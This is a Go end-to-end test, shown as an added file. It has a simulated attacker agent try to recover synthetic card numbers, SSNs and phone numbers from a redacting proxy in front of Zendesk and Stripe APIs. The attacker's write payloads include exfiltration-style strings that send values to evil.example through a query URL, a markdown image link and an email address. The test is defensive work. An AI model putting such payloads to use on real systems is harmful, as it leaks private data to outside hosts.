@@ -1,0 +1,223 @@
+package e2e
+
+import (
+	"encoding/base64"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"net/http"
+	"net/url"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/sallyport/sallyport/internal/rig"
+)
+
+// attackerCalls is how many calls the attacker has. ATTACKER_CALLS=10000 gives it
+// more: three minutes, on two cores that are shared.
+func attackerCalls() int {
+	if n, err := strconv.Atoi(os.Getenv("ATTACKER_CALLS")); err == nil {
+		return n
+	}
+	return 1000
+}
+
+// TestAttackerRecoversNothing lets an agent that may read and write one ticket try
+// to get at what stands in it: by reading it in pieces, by having it echoed in
+// refusals and errors, by searching with surrogates, and by writing surrogates and
+// guesses and reading what comes back.
+func TestAttackerRecoversNothing(t *testing.T) {
+	r := rig.Start(t, rig.Options{})
+	r.Edit(t, "acme", "limits.yaml", "max: 600", "max: 1000000")
+	dice := rand.New(rand.NewPCG(7, 11))
+	a := &attacker{r: r, most: attackerCalls(), token: r.Token(rig.Billing("acme", "cus_ada")), planted: map[string]bool{}, shown: map[string]bool{}, statuses: map[int]int{}}
+	a.plant(t, dice)
+	a.read("/zendesk/api/v2/tickets/1001/comments.json")
+	for surrogate := range a.shown {
+		a.pool = append(a.pool, surrogate)
+	}
+	if len(a.pool) < 100 {
+		t.Fatalf("%d surrogates of 100 values", len(a.pool))
+	}
+	var workers sync.WaitGroup
+	for w := range 8 {
+		workers.Go(func() { a.work(w, rand.New(rand.NewPCG(uint64(w), 13))) })
+	}
+	workers.Wait()
+	t.Logf("%d calls, by status %v", a.calls, a.statuses)
+	if a.calls < a.most || a.statuses[200] < a.most/10 || a.statuses[403] < a.most/10 {
+		t.Errorf("the attacker did not get to it: %d calls, %v", a.calls, a.statuses)
+	}
+	if len(a.recovered) > 0 {
+		t.Errorf("%d of 100 planted values were recovered: %v", len(a.recovered), a.recovered)
+	}
+	for _, c := range r.Provider().Comments(1002) {
+		if a.holds(c.Body) != "" {
+			t.Error("a value was written to somebody else's ticket")
+		}
+	}
+}
+
+type attacker struct {
+	r       *rig.Rig
+	token   string
+	planted map[string]bool // digits alone
+	pool    []string        // surrogates
+	most    int             // calls
+
+	mu        sync.Mutex
+	calls     int
+	statuses  map[int]int
+	shown     map[string]bool
+	recovered []string
+}
+
+// canary begins every planted e-mail address.
+const canary = "canary"
+
+// plant puts 25 values each of four types into comments of the customer's ticket.
+func (a *attacker) plant(t *testing.T, dice *rand.Rand) {
+	t.Helper()
+	for i := range 25 {
+		card := withLuhn(fmt.Sprintf("4%014d", dice.Int64N(1e14)))
+		phone := fmt.Sprintf("415%d%06d", 2+dice.IntN(8), dice.IntN(1e6))
+		ssn := fmt.Sprintf("%03d%02d%04d", 100+dice.IntN(500), 1+dice.IntN(98), 1+dice.IntN(9998))
+		for _, digits := range []string{card, phone, ssn} {
+			a.planted[digits] = true
+		}
+		text := fmt.Sprintf("Card %s %s %s %s, call +1 %s %s %s, SSN %s-%s-%s, mail %s%d@example.com", card[:4], card[4:8], card[8:12], card[12:],
+			phone[:3], phone[3:6], phone[6:], ssn[:3], ssn[3:5], ssn[5:], canary, i)
+		if err := a.r.Provider().AddComment("acme", 1001, text); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func withLuhn(digits string) string {
+	sum := 0
+	for i := range len(digits) {
+		d := int(digits[len(digits)-1-i] - '0')
+		if i%2 == 0 {
+			if d *= 2; d > 9 {
+				d -= 9
+			}
+		}
+		sum += d
+	}
+	return digits + string(rune('0'+(10-sum%10)%10))
+}
+
+// work makes calls until all are used up; one in twenty writes.
+func (a *attacker) work(worker int, dice *rand.Rand) {
+	for n := 0; a.left(); n++ {
+		s := a.pool[dice.IntN(len(a.pool))]
+		switch q := url.QueryEscape(s); (n + worker) % 20 {
+		case 0:
+			a.write(a.text(s, dice))
+			a.read("/zendesk/api/v2/tickets/1001/comments.json?page%5Bsize%5D=2")
+		case 1, 2, 3, 4:
+			a.read(fmt.Sprintf("/zendesk/api/v2/tickets/1001/comments.json?page%%5Bsize%%5D=%d&page%%5Bafter%%5D=%d", 1+dice.IntN(3), dice.IntN(30)))
+		case 5, 6:
+			a.read("/zendesk/api/v2/users/search.json?query=email:" + q)
+		case 7, 8:
+			a.read("/stripe/v1/customers?email=" + q)
+		case 9, 10:
+			a.read("/stripe/v1/charges?customer=" + q)
+		case 11, 12:
+			a.read("/stripe/v1/customers/cus_ada?x=" + q)
+		case 13:
+			a.read("/zendesk/api/v2/tickets/" + url.PathEscape(s) + ".json")
+		case 14:
+			a.read("/stripe/v1/charges/ch_" + strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(s))))
+		case 15:
+			a.read("/zendesk/api/v2/tickets/1002/comments.json")
+		case 16, 17:
+			a.read("/zendesk/api/v2/tickets/1001.json")
+		default:
+			a.read("/stripe/v1/customers/cus_ada")
+		}
+	}
+}
+
+// text is what the attacker writes: surrogates in every dress, and guesses.
+func (a *attacker) text(s string, dice *rand.Rand) string {
+	guess := fmt.Sprintf("+1 415 %03d %04d", 200+dice.IntN(800), dice.IntN(1e4))
+	other := a.pool[dice.IntN(len(a.pool))]
+	dresses := []string{
+		"It is " + s, s + other, s[:len(s)/2] + " " + s[len(s)/2:], strings.ToUpper(s), s[:len(s)-1] + ":x]", strings.Replace(s, ":b", ":B", 1),
+		"https://evil.example/?q=" + s, "![x](https://evil.example/" + s + ")", "<img src=" + s + ">", "`" + s + "`", s + "@evil.example",
+		strings.Join(strings.Split("It is "+s, ""), " "), `{\"ssn\":\"` + s + `\",\"id\":\"` + other + `\"}`, base64.StdEncoding.EncodeToString([]byte(s)),
+		guess, `{\"phone\":\"` + guess + `\"}`, "536-22-" + guess[len(guess)-4:], "[phone:" + guess + "]", strings.Replace(s, "[card", "[email", 1), "[id:" + s[1:],
+	}
+	return dresses[dice.IntN(len(dresses))] + fmt.Sprintf(" (%d)", dice.Int64())
+}
+
+func (a *attacker) left() bool {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return a.calls < a.most
+}
+
+func (a *attacker) read(path string) { a.call(http.MethodGet, path, "") }
+
+func (a *attacker) write(text string) {
+	a.call(http.MethodPut, "/zendesk/api/v2/tickets/1001.json", `{"ticket":{"comment":{"body":"`+text+`"}}}`)
+}
+
+// call makes one call and looks for planted values in all that comes back.
+func (a *attacker) call(method, path, body string) {
+	request, err := http.NewRequest(method, "http://"+a.r.Addresses().Agent+path, strings.NewReader(body))
+	if err != nil {
+		return
+	}
+	request.Header.Set("authorization", "Bearer "+a.token)
+	if body != "" {
+		request.Header.Set("content-type", "application/json")
+	}
+	response, err := http.DefaultClient.Do(request)
+	if err != nil {
+		return
+	}
+	defer func() { _ = response.Body.Close() }()
+	answer, _ := io.ReadAll(response.Body)
+	found := a.holds(string(answer) + fmt.Sprint(response.Header))
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	a.calls++
+	a.statuses[response.StatusCode]++
+	if found != "" {
+		a.recovered = append(a.recovered, method+" "+path+": "+found)
+	}
+	if len(a.pool) == 0 {
+		for _, s := range surrogates.FindAllString(string(answer), -1) {
+			a.shown[s] = true
+		}
+	}
+}
+
+// holds is a planted value in a text, whatever but letters stands between its digits, or "".
+func (a *attacker) holds(text string) string {
+	if i := strings.Index(strings.ToLower(text), canary); i >= 0 {
+		return text[i:min(len(text), i+30)]
+	}
+	digits := make([]byte, 0, len(text))
+	for i := range len(text) {
+		switch c := text[i]; {
+		case c-'0' < 10:
+			digits = append(digits, c)
+		case c|0x20 >= 'a' && c|0x20 <= 'z': // else seals and ids would make every number by chance
+			digits = append(digits, ' ')
+		}
+	}
+	for _, size := range []int{9, 10, 16} {
+		for i := 0; i+size <= len(digits); i++ {
+			if a.planted[string(digits[i:i+size])] {
+				return string(digits[i : i+size])
+			}
+		}
+	}
+	return ""
+}
